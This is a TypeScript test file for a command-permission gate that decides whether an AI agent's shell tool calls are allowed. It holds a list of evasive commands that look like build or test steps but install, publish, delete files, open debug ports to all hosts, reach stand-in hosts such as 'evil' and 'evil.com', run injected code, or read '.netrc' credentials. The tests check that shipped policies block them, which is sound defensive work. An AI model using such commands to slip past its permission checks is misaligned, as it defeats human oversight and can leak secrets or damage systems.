/** Tools that the shipped policies allow by name, with words that do more than testing and building. */
import assert from "node:assert/strict";
import { mkdirSync, mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { test } from "node:test";
import { shippedPolicies, shippedPolicyText } from "../src/cli/shipped-policies.ts";
import { decide } from "../src/core/gate/decide.ts";
import { checkPolicyText } from "../src/core/gate/policy-text.ts";
import { DiskView } from "../src/disk/file-view.ts";

/** What installs, publishes or deletes by a word in any place, or by an option. */
const evasions: readonly string[] = [
  "make all -s install",
  "make -j 4 install",
  "make a b c d e X=y",
  "ninja install",
  "cmake --build . -t install",
  "cmake --build . --config Release --target=install",
  "cmake --build . -j4 -tinstall",
  "cmake --build . -- install",
  "gradle test --profile publish",
  "mvn test -Dmaven.test.skip a b c deploy",
  "cargo xtask deploy",
  "ctest --build-and-test . out --test-command rm x",
  "pytest --basetemp=src",
  "pytest --basetem src",
  "coverage run -m pytest --basetemp=src",
  "npx vite build --outDir src",
  "npx webpack build --output-path src --output-clean",
  "npx playwright test --output=src",
  "go list -m -u all",
  "go list -m -versions evil.com/x",
  "go vet -fixtool=./x",
  "npx vitest --coverage.reportsDirectory=src",
  "uv run sort -o ../x a",
  "mypy --python-exec ./x .",
  "npx vitest --api.host=0.0.0.0",
  "npx playwright test --ui-host=0.0.0.0",
  "dotnet build @options",
  "protoc @options",
  `npx jest --config='{"globalSetup":"../x"}'`,
  `ruff check --config='extend="../x"'`,
  "TZ=:/users/me/.netrc date",
  "pytest -o addopts=--basetemp=src",
  "python -m pytest -o addopts=--basetemp=src",
  "poetry run pytest -o addopts=--basetemp=src",
  "pytest --override-ini=addopts=-px",
  "pytest -o junit_logging=all -o cache_dir=src",
  "pytest --cache-clear -o cache_dir=src",
  "pytest --tx ssh=evil//python=x -d",
  "pytest --dist each --rsyncdir . --tx socket=evil:8888",
  `pytest --testmon-noselect --testmon-env 'os.remove("x")'`,
  "pytest --tracing on --output src",
  "flake8 --install-hook git",
  "sphinx-build -M clean . src",
  "ctest --extra-submit x",
  "npx turbo run build --team x --token y",
  "npx mocha --inspect=0.0.0.0",
  "npx vitest --inspect=0.0.0.0",
  "npx vitest init browser",
  "npx eslint --inspect-config",
  "npx eslint --mcp",
  "npx jest --clearCache --cacheDirectory src",
  "npx jest --clearCache --cacheDirectory=.",
  "mvn test -DargLine=-javaagent:x.jar",
  "mvn test -DargLine=-Xlog:gc:../x",
  "mvn test -Djvm=./x",
  "mvn test -Dmaven.compiler.executable=./x -Dmaven.compiler.fork=true",
  "mvn test exec:exec@x",
  "dotnet build -t:Publish",
  "dotnet build -target:Publish",
  "dotnet build /t:Publish",
  "dotnet build -p:PostBuildEvent=rm",
  "dotnet build --property:PreBuildEvent=rm",
  "dotnet build -ts:x -restoreProperty:x=y",
  "dotnet build -rsp:x",
  "make uninstall",
  "make push",
  "make docker-push",
  "make release-notes",
  "make deploy-prod",
  "make install-strip",
  "make -d deploy/x",
  "make -q --no-print-directory install-all",
  "cmake --build build --target uninstall",
  "cargo xtask publish",
  "npx turbo run deploy",
  "npx turbo run publish",
  "mvn test site-deploy",
  "gradle test :publish",
  "gradle test :a:uploadArchives",
  "./gradlew test deploy",
  "./gradlew build release",
  "npm run prepublishOnly",
  "npm run ci:publish",
  "npm run docs:deploy",
  "pnpm run deploy",
  "pnpm run publish",
  "yarn run publish",
  "yarn run deploy",
];

test("no shipped policy allows a tool to install, publish, delete, open a port or take options from a file", () => {
  const context = { workingDirectory: "/project", home: "/users/me", labels: [] };
  for (const name of shippedPolicies) {
    const read = checkPolicyText(shippedPolicyText(name));
    assert.ok(read.ok, name);
    const allowed = evasions.filter(
      (command) =>
        decide(read.policy, { name: "Bash", arguments: { command }, finish: "tool_calls" }, context).effect === "allow",
    );
    assert.deepEqual(allowed, [], name);
  }
});

test("coding lets a tool empty a folder of build output, or one that is not there yet", () => {
  const directory = mkdtempSync(join(tmpdir(), "tools-"));
  mkdirSync(join(directory, "src"));
  const read = checkPolicyText(shippedPolicyText("coding"));
  assert.ok(read.ok);
  const context = { workingDirectory: directory, home: "/users/me", labels: [], files: () => new DiskView() };
  const effectOf = (command: string): string =>
    decide(read.policy, { name: "Bash", arguments: { command }, finish: "tool_calls" }, context).effect;
  for (const command of [
    "npx vite build --outDir dist/web",
    "python -m pytest --basetemp=build/t",
    "npx playwright test --output new",
    "pytest --basetemp=.pytest_tmp -q",
  ])
    assert.equal(effectOf(command), "allow", command);
  for (const command of ["npx vite build --outDir src", "pytest --basetemp=/opt/new", "pytest --basetemp .github"])
    assert.equal(effectOf(command), "ask", command);
  rmSync(directory, { recursive: true });
});
